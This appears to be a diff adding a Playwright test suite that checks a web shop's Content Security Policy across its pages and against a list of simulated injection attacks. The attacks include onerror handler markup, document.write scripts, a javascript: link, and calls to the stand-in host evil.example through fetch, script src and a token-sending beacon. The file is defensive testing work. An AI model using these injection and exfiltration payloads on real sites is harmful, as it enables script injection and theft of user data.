@@ -1,0 +1,277 @@
+import { chromium, type Page } from '@playwright/test';
+import { linesOf, newOrder, seedCart } from './buying.ts';
+import { expect, ShopUnderTest, test } from './fixtures.ts';
+import { shelfIsFull } from './offline-page.ts';
+
+/** The document's policy (src/boot/document-policy.ts) in the browser: the shop never breaks it, an attack always does. */
+
+const ADDRESSES = [
+  '/',
+  '/products',
+  '/products?featured=true',
+  '/products?category=nothing-of-this-kind',
+  '/product/no-such-product',
+  '/cart',
+  '/contact',
+  '/track-order',
+  '/order-success',
+  '/login',
+  '/register',
+  '/privacy',
+  '/about',
+  '/api-test',
+  '/account',
+  '/orders',
+  '/checkout',
+  '/payment',
+  '/404',
+  '/nothing/here',
+];
+
+test.describe('faults M14: the shop keeps its own policy', () => {
+  test.use({ serviceWorkers: 'allow', allowedProblems: [/./] });
+  test.setTimeout(180_000);
+
+  test('at every address, with the network and without', async ({ page, shop, context }) => {
+    const violations = await violationsOf(page);
+    const shopper = await shop.newShopper();
+    await shop.signIn(context, shopper);
+    const lines = await linesOf(shop, [1, 2]);
+    await seedCart(page, lines);
+    const order = await newOrder(shop, shopper);
+    const addresses = [...ADDRESSES, `/product/${lines[0]?.id}`, `/payment?orderId=${order}`];
+
+    for (const address of addresses) await openAndSettle(page, address);
+    await page.goto('/');
+    await shelfIsFull(page);
+    expect(violations).toEqual([]);
+
+    await shop.stop();
+    for (const address of addresses) await openAndSettle(page, address);
+    expect(violations).toEqual([]);
+  });
+});
+
+test('D2: the default build reaches an API on localhost, on 127.0.0.1, and from [::1]', async () => {
+  const world = await ShopUnderTest.start({ apart: true });
+  const { port } = new URL(world.url);
+  const toApi = world.browserArguments[0]?.split(' ').at(-1);
+  const browser = await chromium.launch({
+    ...(process.env.CHROMIUM_PATH && { executablePath: process.env.CHROMIUM_PATH }),
+    args: ['--no-sandbox', `--host-resolver-rules=MAP localhost:8044 ${toApi}, MAP 127.0.0.1:8044 ${toApi}`],
+  });
+  try {
+    for (const [host, moved] of [
+      ['localhost', 'localhost'],
+      ['127.0.0.1', '127.0.0.1'],
+      ['[::1]', 'localhost'],
+    ]) {
+      const page = await browser.newPage();
+      await page.goto(`http://${host}:${port}/products?page=2`);
+      await expect(page.getByRole('article').first()).toBeVisible();
+      expect(page.url()).toBe(`http://${moved}:${port}/products?page=2`);
+      await page.close();
+    }
+  } finally {
+    await browser.close();
+    await world.end();
+  }
+});
+
+interface Attack {
+  name: string;
+  /** The directive that stops it. */
+  directive: string;
+  run: () => unknown;
+}
+
+const ATTACKS: Attack[] = [
+  {
+    name: 'markup with a handler',
+    directive: 'require-trusted-types-for',
+    run: () => {
+      document.body.innerHTML += '<img src="/none" onerror="window.executed = 1">';
+    },
+  },
+  {
+    name: 'markup beside an element',
+    directive: 'require-trusted-types-for',
+    run: () =>
+      document.body.insertAdjacentHTML('beforeend', '<img src="/none" onerror="window.executed = 1">'),
+  },
+  {
+    name: 'markup of a parser',
+    directive: 'require-trusted-types-for',
+    run: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
+  },
+  {
+    name: 'a written document',
+    directive: 'require-trusted-types-for',
+    run: () => document.write('<script>window.executed = 1</script>'),
+  },
+  {
+    name: 'a frame with its own document',
+    directive: 'require-trusted-types-for',
+    run: () => {
+      document.createElement('iframe').srcdoc = '<script>parent.executed = 1</script>';
+    },
+  },
+  {
+    name: 'a script from elsewhere',
+    directive: 'require-trusted-types-for',
+    run: () => {
+      document.createElement('script').src = 'https://evil.example/x.js';
+    },
+  },
+  {
+    name: 'a script of text',
+    directive: 'require-trusted-types-for',
+    run: () => {
+      document.createElement('script').textContent = 'window.executed = 1';
+    },
+  },
+  {
+    name: 'a script of text nodes',
+    directive: 'require-trusted-types-for',
+    run: () => {
+      const script = document.createElement('script');
+      script.append('window.executed = 1');
+      document.body.append(script);
+    },
+  },
+  {
+    name: 'a handler in an attribute',
+    directive: 'require-trusted-types-for',
+    run: () => document.body.setAttribute('onclick', 'window.executed = 1'),
+  },
+  {
+    name: 'a worker',
+    directive: 'require-trusted-types-for',
+    run: () => new Worker('data:text/javascript,postMessage(1)'),
+  },
+  {
+    name: 'a default policy',
+    directive: 'trusted-types',
+    run: () =>
+      Object(Reflect.get(window, 'trustedTypes')).createPolicy('default', {
+        createHTML: (html: string) => html,
+      }),
+  },
+  {
+    name: 'a module from elsewhere',
+    directive: 'script-src-elem',
+    run: () => {
+      const link = document.createElement('link');
+      document.head.append(Object.assign(link, { rel: 'modulepreload', href: 'https://evil.example/x.js' }));
+    },
+  },
+  {
+    name: 'a link that runs script',
+    directive: 'script-src-elem',
+    run: () => {
+      const link = document.createElement('a');
+      link.href = 'javascript:window.executed = 1';
+      document.body.append(link);
+      link.click();
+    },
+  },
+  {
+    name: 'a style attribute',
+    directive: 'style-src-attr',
+    run: () => document.body.setAttribute('style', 'background: url(https://evil.example/x)'),
+  },
+  {
+    name: 'a sheet of style',
+    directive: 'style-src-elem',
+    run: () => {
+      const style = document.createElement('style');
+      style.textContent = 'body { background: url(https://evil.example/x) }';
+      document.head.append(style);
+    },
+  },
+  {
+    name: 'another base',
+    directive: 'base-uri',
+    run: () => {
+      document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
+    },
+  },
+  {
+    name: 'a request to elsewhere',
+    directive: 'connect-src',
+    run: () => fetch('https://evil.example/x').catch(() => {}),
+  },
+  {
+    name: 'a beacon to elsewhere',
+    directive: 'connect-src',
+    run: () => navigator.sendBeacon('https://evil.example/x', 'token'),
+  },
+  {
+    name: 'a frame of elsewhere',
+    directive: 'frame-src',
+    run: () => {
+      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
+    },
+  },
+  {
+    name: 'a picture over http',
+    directive: 'img-src',
+    run: () => {
+      new Image().src = 'http://evil.example/x';
+    },
+  },
+];
+
+test.describe('faults M14: an attack that got past the shop is stopped by the policy', () => {
+  test.use({ allowedProblems: [/./] });
+
+  for (const { name, directive, run } of ATTACKS) {
+    test(name, async ({ page }) => {
+      const sent: string[] = [];
+      page.on('requestfinished', (request) => sent.push(request.url()));
+      page.on('requestfailed', (request) => {
+        if (request.failure()?.errorText !== 'csp') sent.push(request.url());
+      });
+      await page.goto('/contact');
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+      const broken = page.evaluate(
+        () =>
+          new Promise<string>((resolve) => {
+            document.addEventListener(
+              'securitypolicyviolation',
+              (event) => resolve(event.effectiveDirective),
+              {
+                once: true,
+              },
+            );
+          }),
+      );
+      await page.evaluate(run).catch(() => {});
+      expect(await broken).toBe(directive);
+      expect(await page.evaluate(() => Reflect.get(window, 'executed'))).toBeUndefined();
+      expect(sent.filter((url) => url.includes('evil'))).toEqual([]);
+    });
+  }
+});
+
+/** Fills while the page breaks its policy, one line each. */
+async function violationsOf(page: Page): Promise<string[]> {
+  const violations: string[] = [];
+  await page.exposeBinding('noteViolation', (_, violation: string) => void violations.push(violation));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
+      Reflect.get(
+        window,
+        'noteViolation',
+      )(`${location.pathname} ${effectiveDirective} ${blockedURI} ${sample}`);
+    });
+  });
+  return violations;
+}
+
+/** Until the page itself is drawn in place of the shell, and asks for nothing more. */
+async function openAndSettle(page: Page, address: string): Promise<void> {
+  await page.goto(address);
+  await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
+  await page.waitForLoadState('networkidle');
+}
